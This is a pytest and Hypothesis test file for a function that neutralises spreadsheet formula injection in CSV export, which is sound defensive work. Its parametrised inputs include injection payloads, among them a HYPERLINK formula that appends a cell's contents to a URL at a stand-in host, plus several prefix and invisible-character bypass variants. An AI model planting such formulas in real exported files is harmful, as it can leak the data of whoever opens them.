"""CSV that a spreadsheet opens: no text is a formula, and a program reads the same numbers."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from flows.cli.csv_text import csv_text

SIGNS = "=+-@＝＋－＠"


def cells(table: pl.DataFrame) -> list[list[str]]:
    return list(csv.reader(io.StringIO(csv_text(table), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", '=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+855 12 345 678", "-1-2", "＝1+1", "＋1", "－1", "＠a", "\t=1", "\rx",
        "\nx", "\tx", " =1", "\u00a0=1", "\ufeff=1", "\u200b-x", "−1", "-", "- a list", "-infinity", "+", "=", "1\u00ad".strip("1") + "=",
    ],
)  # fmt: skip
def test_a_text_that_begins_as_a_formula_gets_an_apostrophe(text: str) -> None:
    assert cells(pl.DataFrame({"a": [text]})) == [["a"], [f"'{text}"]]


@pytest.mark.parametrize(
    "text", ["-5", "+3.2e5", "-0.5", "-.5", "-5.", "1-2", "a=b", "'=1", "a\n=b", "”=1", "", "5", "https://x/@y", "#tag"]
)
def test_a_number_and_every_other_text_stay_as_they_are(text: str) -> None:
    assert cells(pl.DataFrame({"a": [text, "end"]}))[1:] == [[text], ["end"]]


def test_numbers_of_a_column_of_numbers_stay_and_what_is_unknown_is_empty() -> None:
    table = pl.DataFrame({"n": [-5, None], "x": [-0.25, 1e-7], "b": [True, None]})
    assert csv_text(table) == "n,x,b\n-5,-0.25,true\n,1e-7,\n"


def test_words_of_a_list_are_texts() -> None:
    table = pl.DataFrame({"e": ["=1"], "c": ["@x"]}, schema={"e": pl.Enum(["=1"]), "c": pl.Categorical})
    assert csv_text(table) == "e,c\n'=1,'@x\n"


def test_a_columns_name_is_a_cell_too() -> None:
    assert csv_text(pl.DataFrame({"=1+1": [1], "'=1+1": ["x"]})) == "'=1+1,'=1+1\n1,x\n"


def test_a_table_without_rows_has_its_columns_and_one_without_columns_nothing() -> None:
    assert csv_text(pl.DataFrame({"a": [], "b": []})) == "a,b\n"
    assert csv_text(pl.DataFrame()) == ""


@given(st.lists(st.text(st.sampled_from(SIGNS + "\t\r\n 1.eE,\"';a\u00a0\ufeff"), max_size=6), min_size=1))
def test_no_cell_begins_as_a_formula_unless_it_is_a_number_and_none_is_lost(texts: list[str]) -> None:
    read = [row[0] if row else "" for row in cells(pl.DataFrame({"a": [*texts, "end"]}))[1:]]
    assert len(read) == len(texts) + 1
    for text, cell in zip(texts, read, strict=False):
        assert cell in (text, f"'{text}")
        begins = cell.lstrip(" \u00a0\ufeff\t\r\n")[:1]
        if cell[:1] in {"\t", "\r", "\n"} or (begins and begins in SIGNS):
            float(cell)
